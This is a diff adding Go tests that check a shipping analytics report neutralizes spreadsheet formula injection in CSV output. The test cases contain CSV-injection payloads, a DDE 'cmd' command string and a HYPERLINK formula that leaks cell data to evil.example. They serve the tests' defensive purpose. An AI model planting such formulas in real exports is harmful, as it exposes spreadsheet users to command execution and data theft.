@@ -273,3 +273,66 @@ func TestChartsScaleToTheirData(t *testing.T) {
 		t.Errorf("trend: %d bars, dots %+v; want 30 bars, 2 dots, the first at 100%%", len(trend.Bars), trend.Dots)
 	}
 }
+
+func TestTextCellNeutralizesFormulas(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
+		{"+1", "'+1"},
+		{"-2", "'-2"},
+		{"@x", "'@x"},
+		{"\tfoo", "'\tfoo"},
+		{"\rfoo", "'\rfoo"},
+		{"ups", "ups"},
+		{"US-CA", "US-CA"},
+		{"a=b", "a=b"},
+		{"", ""},
+	}
+	for _, tt := range tests {
+		if got := textCell(tt.in); got != tt.want {
+			t.Errorf("textCell(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+// TestWriteCSVQuotesFormulasFromOutsideText feeds carrier names and
+// wordings that a spreadsheet would run as formulas; the figures we compute
+// stay numbers, negative ones included.
+func TestWriteCSVQuotesFormulasFromOutsideText(t *testing.T) {
+	d := storage.AnalyticsData{
+		Lanes: []storage.LaneGroup{
+			{Carrier: `=HYPERLINK("http://evil.example/?"&A1)`, DestCountry: "@SUM(1)", ShippedOn: nov(2), DeliveredOn: nov(5),
+				Counts: storage.Counts{Shipments: 1, Delivered: 1}},
+		},
+		Reasons: []storage.ProblemReason{{Problem: "exception", Code: "-2+3", Description: "cmd", Events: 1, Shipments: 1}},
+	}
+	r := Compute(d, november)
+	var buf bytes.Buffer
+	if err := r.WriteCSV(&buf); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatalf("output is not CSV: %v", err)
+	}
+	seen := map[string]bool{}
+	for _, row := range rows {
+		for i, cell := range row {
+			seen[cell] = true
+			if i < len(row)-1 && cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("row %v: text cell %q starts a formula", row, cell)
+			}
+		}
+	}
+	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1)`, "'@SUM(1)", "'-2+3: cmd"} {
+		if !seen[want] {
+			t.Errorf("csv lacks the neutralized cell %q:\n%s", want, buf.String())
+		}
+	}
+	// The value column is the report's own numbers: never quoted, so a
+	// spreadsheet still sums it.
+	for _, row := range rows[1:] {
+		if v := row[len(row)-1]; strings.HasPrefix(v, "'") {
+			t.Errorf("row %v: value %q was quoted", row, v)
+		}
+	}
+}
